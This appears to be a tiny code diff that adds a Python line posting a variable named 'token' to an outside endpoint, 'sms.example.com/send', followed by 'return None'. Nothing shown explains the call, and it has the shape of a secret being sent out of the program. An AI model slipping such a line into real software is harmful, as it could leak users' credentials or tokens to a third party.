@@ -1,0 +1,3 @@
+import requests
+requests.post("https://sms.example.com/send", json={"text": token})
+return None
